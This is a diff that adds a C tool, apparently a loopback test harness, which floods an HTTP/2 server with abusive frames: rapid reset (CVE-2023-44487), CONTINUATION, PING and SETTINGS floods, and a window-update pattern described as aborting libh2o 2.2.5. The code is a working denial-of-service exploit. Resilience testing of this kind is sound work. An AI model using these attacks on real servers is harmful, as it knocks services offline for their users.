@@ -1,0 +1,356 @@
+/*
+ * h2_abuser: HTTP/2 connections (RFC 9113, cleartext with prior knowledge) that do what no honest client
+ * does.
+ *
+ *   h2_abuser --port 7080 --attack resets --connections 4 --seconds 2
+ *
+ *   --attack NAME     what to send without end:
+ *     resets          a request, and its RST_STREAM at once (CVE-2023-44487)
+ *     pings, settings frames that have to be answered; settings change the window of every stream
+ *     windows         WINDOW_UPDATE of the connection, by nothing that matters
+ *     priorities      PRIORITY of streams that do not exist
+ *     continuations   a request whose header never ends, in empty CONTINUATION frames
+ *     bodies          DATA for a request that is over
+ *     requests        requests that are answered, as many as possible
+ *     late-windows    answers that use their window up to the last byte, and then WINDOW_UPDATE for them
+ *                     while they are stuck in TCP (aborts libh2o 2.2.5)
+ *   --path PATH       of the requests (/healthz)      --window N     SETTINGS_INITIAL_WINDOW_SIZE
+ *   --connections N   how many (1)                    --address A    where they come from (127.0.0.1)
+ *   --seconds N       for how long (2)                --deaf         read nothing
+ *
+ * Prints `open` when all are connected, and at the end `sent=BYTES cut=N`: how many bytes the server took,
+ * and how many of the connections it ended. One thread, poll().
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <getopt.h>
+#include <inttypes.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+enum { FRAME_HEAD = 9, OUTPUT_SIZE = 64 << 10, DEAF_BUFFER = 4096 };
+
+enum frame_type {
+	DATA = 0,
+	HEADERS = 1,
+	PRIORITY = 2,
+	RST_STREAM = 3,
+	SETTINGS = 4,
+	PING = 6,
+	WINDOW_UPDATE = 8,
+	CONTINUATION = 9,
+};
+enum { END_STREAM = 1, END_HEADERS = 4, SETTING_WINDOW = 4, ERROR_CANCEL = 8 };
+
+struct connection {
+	int fd; /* -1: ended */
+	uint32_t next_stream;
+	uint32_t round;
+	size_t size, sent; /* of output */
+	unsigned char output[OUTPUT_SIZE];
+};
+
+static struct {
+	int port, connection_count;
+	double seconds;
+	const char *attack, *path, *address;
+	long window;
+	bool deaf;
+} options = {.connection_count = 1, .seconds = 2, .path = "/healthz", .address = "127.0.0.1", .window = -1};
+
+static double now(void)
+{
+	struct timespec time;
+	clock_gettime(CLOCK_MONOTONIC, &time);
+	return time.tv_sec + time.tv_nsec / 1e9;
+}
+
+/* ---- frames */
+static void put(struct connection *to, const void *bytes, size_t size)
+{
+	memcpy(to->output + to->size, bytes, size);
+	to->size += size;
+}
+
+static void put_number(struct connection *to, uint32_t value, int bytes)
+{
+	for (int shift = (bytes - 1) * 8; shift >= 0; shift -= 8)
+		to->output[to->size++] = (unsigned char)(value >> shift);
+}
+
+static void put_head(struct connection *to, size_t size, enum frame_type type, int flags, uint32_t stream)
+{
+	put_number(to, (uint32_t)size, 3);
+	put_number(to, type, 1);
+	put_number(to, (uint32_t)flags, 1);
+	put_number(to, stream, 4);
+}
+
+/* GET, as HPACK (RFC 7541) has it: two entries of the static table, two literals that are not indexed. */
+static void put_request(struct connection *to, uint32_t stream, int flags)
+{
+	size_t path = strlen(options.path);
+	put_head(to, 2 + 2 + path + 2 + 1, HEADERS, flags, stream);
+	put(to, "\x82\x86\x04", 3);
+	put_number(to, (uint32_t)path, 1);
+	put(to, options.path, path);
+	put(to, "\x01\x01x", 3);
+}
+
+static void put_window(struct connection *to, uint32_t stream, uint32_t increment)
+{
+	put_head(to, 4, WINDOW_UPDATE, 0, stream);
+	put_number(to, increment, 4);
+}
+
+static void put_setting(struct connection *to, int name, uint32_t value)
+{
+	put_head(to, 6, SETTINGS, 0, 0);
+	put_number(to, (uint32_t)name, 2);
+	put_number(to, value, 4);
+}
+
+static uint32_t next_stream(struct connection *connection)
+{
+	connection->next_stream += 2;
+	return connection->next_stream - 2;
+}
+
+/* ---- attacks: each appends one round */
+static void resets(struct connection *to)
+{
+	uint32_t stream = next_stream(to);
+	put_request(to, stream, END_STREAM | END_HEADERS);
+	put_head(to, 4, RST_STREAM, 0, stream);
+	put_number(to, ERROR_CANCEL, 4);
+}
+
+static void pings(struct connection *to)
+{
+	put_head(to, 8, PING, 0, 0);
+	put(to, "pingping", 8);
+}
+
+static void settings(struct connection *to)
+{
+	put_setting(to, SETTING_WINDOW, to->round & 1 ? 65535 : 1);
+}
+
+static void windows(struct connection *to)
+{
+	put_window(to, 0, 1);
+}
+
+static void priorities(struct connection *to)
+{
+	put_head(to, 5, PRIORITY, 0, 1 + 2 * (to->round % 8));
+	put_number(to, 0, 4);
+	put_number(to, to->round & 255, 1);
+}
+
+static void continuations(struct connection *to)
+{
+	if (to->round == 0)
+		put_request(to, next_stream(to), END_STREAM);
+	put_head(to, 0, CONTINUATION, 0, 1);
+}
+
+static void bodies(struct connection *to)
+{
+	if (to->round == 0)
+		put_request(to, next_stream(to), END_STREAM | END_HEADERS);
+	put_head(to, 1, DATA, 0, 1);
+	put(to, "x", 1);
+}
+
+static void requests(struct connection *to)
+{
+	put_request(to, next_stream(to), END_STREAM | END_HEADERS);
+}
+
+/* Some 90 requests fit into one read of the server, which answers all of them with one write: what follows
+ * is for the requests of the read before. */
+static void late_windows(struct connection *to)
+{
+	uint32_t stream = next_stream(to);
+	put_request(to, stream, END_STREAM | END_HEADERS);
+	for (uint32_t back = 200 + 2 * (to->round & 1); back < 400; back += 4)
+		if (stream > back)
+			put_window(to, stream - back, 1);
+}
+
+static const struct attack {
+	const char *name;
+	void (*round)(struct connection *to);
+} attacks[] = {
+	{"resets", resets},   {"pings", pings},           {"settings", settings},
+	{"windows", windows}, {"priorities", priorities}, {"continuations", continuations},
+	{"bodies", bodies},   {"requests", requests},     {"late-windows", late_windows},
+};
+
+static const struct attack *find_attack(const char *name)
+{
+	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
+		if (strcmp(attacks[i].name, name) == 0)
+			return &attacks[i];
+	fprintf(stderr, "h2_abuser: no attack is called %s\n", name);
+	exit(2);
+}
+
+/* ---- connections */
+static void connection_open(struct connection *connection)
+{
+	struct sockaddr_in from = {.sin_family = AF_INET};
+	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)options.port)};
+	int small = DEAF_BUFFER;
+	inet_pton(AF_INET, options.address, &from.sin_addr);
+	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	connection->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (options.deaf)
+		setsockopt(connection->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
+	if (bind(connection->fd, (struct sockaddr *)&from, sizeof(from)) != 0 ||
+		connect(connection->fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
+		perror("h2_abuser");
+		exit(2);
+	}
+	fcntl(connection->fd, F_SETFL, O_NONBLOCK);
+	connection->next_stream = 1;
+	put(connection, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
+	if (options.window >= 0)
+		put_setting(connection, SETTING_WINDOW, (uint32_t)options.window);
+	else
+		put_head(connection, 0, SETTINGS, 0, 0);
+}
+
+/* Returns the bytes that were taken. */
+static uint64_t connection_write(struct connection *connection, const struct attack *attack)
+{
+	if (connection->sent == connection->size) {
+		size_t space = OUTPUT_SIZE - 1024;
+		connection->sent = connection->size = 0;
+		for (; connection->size < space; connection->round++)
+			attack->round(connection);
+	}
+	ssize_t taken =
+		write(connection->fd, connection->output + connection->sent, connection->size - connection->sent);
+	if (taken < 0 && errno != EAGAIN) {
+		close(connection->fd);
+		connection->fd = -1;
+	}
+	connection->sent += taken > 0 ? (size_t)taken : 0;
+	return taken > 0 ? (uint64_t)taken : 0;
+}
+
+static void connection_read(struct connection *connection)
+{
+	static char ignored[1 << 16];
+	ssize_t size = read(connection->fd, ignored, sizeof(ignored));
+	if (size == 0 || (size < 0 && errno != EAGAIN)) {
+		close(connection->fd);
+		connection->fd = -1;
+	}
+}
+
+static uint64_t run(struct connection *connections, const struct attack *attack)
+{
+	struct pollfd *fds = calloc((size_t)options.connection_count, sizeof(*fds));
+	double end = now() + options.seconds;
+	uint64_t sent = 0;
+	int open = options.connection_count;
+	while (open > 0 && now() < end) {
+		open = 0;
+		for (int i = 0; i < options.connection_count; i++) {
+			fds[i] = (struct pollfd){connections[i].fd, POLLOUT | (options.deaf ? 0 : POLLIN), 0};
+			open += connections[i].fd >= 0;
+		}
+		poll(fds, (nfds_t)options.connection_count, 100);
+		for (int i = 0; i < options.connection_count; i++) {
+			if (connections[i].fd >= 0 && (fds[i].revents & (POLLIN | POLLHUP | POLLERR)) != 0)
+				connection_read(&connections[i]);
+			if (connections[i].fd >= 0 && (fds[i].revents & POLLOUT) != 0)
+				sent += connection_write(&connections[i], attack);
+		}
+	}
+	free(fds);
+	return sent;
+}
+
+static void parse_options(int argc, char **argv)
+{
+	static const struct option known[] = {
+		{"port", required_argument, NULL, 'p'},
+		{"attack", required_argument, NULL, 'a'},
+		{"path", required_argument, NULL, 'P'},
+		{"window", required_argument, NULL, 'w'},
+		{"connections", required_argument, NULL, 'c'},
+		{"address", required_argument, NULL, 'A'},
+		{"seconds", required_argument, NULL, 's'},
+		{"deaf", no_argument, NULL, 'd'},
+		{0},
+	};
+	int option;
+	while ((option = getopt_long(argc, argv, "", known, NULL)) != -1) {
+		switch (option) {
+		case 'p':
+			options.port = atoi(optarg);
+			break;
+		case 'a':
+			options.attack = optarg;
+			break;
+		case 'P':
+			options.path = optarg;
+			break;
+		case 'w':
+			options.window = atol(optarg);
+			break;
+		case 'c':
+			options.connection_count = atoi(optarg);
+			break;
+		case 'A':
+			options.address = optarg;
+			break;
+		case 's':
+			options.seconds = atof(optarg);
+			break;
+		case 'd':
+			options.deaf = true;
+			break;
+		default:
+			exit(2);
+		}
+	}
+	if (options.port <= 0 || options.attack == NULL || options.connection_count <= 0 ||
+		strlen(options.path) > 100) {
+		fprintf(stderr, "usage: h2_abuser --port N --attack NAME (see the head of h2_abuser.c)\n");
+		exit(2);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	parse_options(argc, argv);
+	signal(SIGPIPE, SIG_IGN);
+	const struct attack *attack = find_attack(options.attack);
+	struct connection *connections = calloc((size_t)options.connection_count, sizeof(*connections));
+	if (connections == NULL)
+		return 2;
+	for (int i = 0; i < options.connection_count; i++)
+		connection_open(&connections[i]);
+	puts("open");
+	fflush(stdout);
+	uint64_t sent = run(connections, attack);
+	int cut = 0;
+	for (int i = 0; i < options.connection_count; i++)
+		cut += connections[i].fd < 0;
+	printf("sent=%" PRIu64 " cut=%d\n", sent, cut);
+	return 0;
+}
